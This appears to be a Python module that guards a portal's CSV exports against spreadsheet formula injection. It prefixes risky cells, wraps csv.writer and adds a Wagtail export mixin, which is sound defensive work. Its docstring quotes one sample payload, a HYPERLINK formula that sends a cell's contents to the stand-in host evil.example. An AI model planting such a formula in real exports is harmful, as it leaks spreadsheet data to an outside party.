"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula: a bill description such as
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run in a finance officer's
spreadsheet. Every CSV the portal writes passes its cells through ``csv_safe``, which
puts a ``'`` in front of such text, as OWASP recommends. Numbers are left alone.

- ``csv_safe(value)`` for one cell, ``csv_safe_row(row)`` for a list of cells;
- ``writer(file, ...)``: ``csv.writer`` whose ``writerow``/``writerows`` do it for you;
- ``SafeSpreadsheetExportMixin``: for Wagtail views with ``list_export`` (its CSV export;
  its XLSX export already stores such cells as text).
"""

import csv as _csv
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _csv import Dialect, Writer

    from _typeshed import SupportsWrite

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """``value``, or for text a spreadsheet would read as a formula, that text after a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def csv_safe_row(row: Iterable[Any]) -> list[Any]:
    return [csv_safe(value) for value in row]


class SafeWriter:
    """Wraps a ``csv.writer``: every row written is passed through ``csv_safe_row``."""

    def __init__(self, inner: "Writer") -> None:
        self._inner = inner

    @property
    def dialect(self) -> "Dialect":
        return self._inner.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._inner.writerow(csv_safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: "SupportsWrite[str]", *args: Any, **kwargs: Any) -> SafeWriter:
    """``csv.writer(file, ...)`` that neutralises formulas in every cell."""
    return SafeWriter(_csv.writer(file, *args, **kwargs))


class SafeSpreadsheetExportMixin:
    """Put before a Wagtail ``SpreadsheetExportMixin`` view: its CSV cells go through ``csv_safe``."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        # A mixin: the Wagtail view after it in the MRO defines the method.
        value = super().preprocess_field_value(field, value, export_format)  # type: ignore[misc]
        return csv_safe(value) if export_format == "csv" else value
